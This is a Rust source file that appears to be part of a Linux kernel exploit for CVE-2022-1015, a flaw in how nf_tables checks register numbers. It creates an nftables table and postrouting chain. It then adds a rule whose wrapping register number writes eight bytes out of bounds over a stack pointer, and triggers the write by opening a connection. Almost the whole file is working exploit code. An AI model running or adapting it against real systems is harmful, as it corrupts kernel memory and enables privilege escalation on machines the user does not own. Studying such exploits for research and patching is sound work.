//! CVE-2022-1015: the number of a register is taken as it comes; multiplied it wraps, so that it
//! passes the check, and its low byte is used.

use std::io;

use crate::{netlink::Batch, nft, packet};

const TABLE: &str = "otf_register";
const PORT: u16 = 4002;
/// Becomes register `0x3fff_fffe`: its byte number plus 8 is 0, its low byte 254.
const WRAPS: u32 = 0x4000_0002;

/// A chain that sees packets.
pub fn setup() -> io::Result<()> {
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(
            libc::NFT_MSG_NEWCHAIN,
            nft::IP,
            nft::CREATE,
            &nft::base_chain(TABLE, "post", libc::NF_INET_POST_ROUTING as u32, None),
        )
        .send()
}

/// Data for register 254 of 20: eight bytes of a frame far above. For the first packet of a
/// connection these are a pointer that `connect` goes on with.
pub fn attack() -> io::Result<()> {
    let mut expressions = nft::to_port(PORT);
    expressions.push(nft::immediate(WRAPS, &nft::value(&[0x41; 8])));
    Batch::new()
        .add(
            libc::NFT_MSG_NEWRULE,
            nft::IP,
            nft::APPEND,
            &nft::rule(TABLE, "post", &expressions),
        )
        .send()?;
    packet::connect(PORT)
}
